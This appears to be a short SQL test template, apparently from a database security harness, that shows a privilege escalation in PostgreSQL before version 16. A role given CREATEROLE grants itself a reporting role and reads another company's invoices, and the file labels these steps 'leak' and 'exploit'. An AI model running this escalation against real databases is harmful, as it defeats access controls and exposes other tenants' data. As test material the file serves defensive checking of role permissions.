-- Up to 15 CREATEROLE grants itself any role.
-- object: role:{web}
-- base: shop
-- server: <16
--- leak
RESET ROLE; ALTER ROLE {web} CREATEROLE;
--- exploit
GRANT {reporting} TO {web}; SET LOCAL ROLE {reporting}; SELECT FROM invoices WHERE company_id = 202;
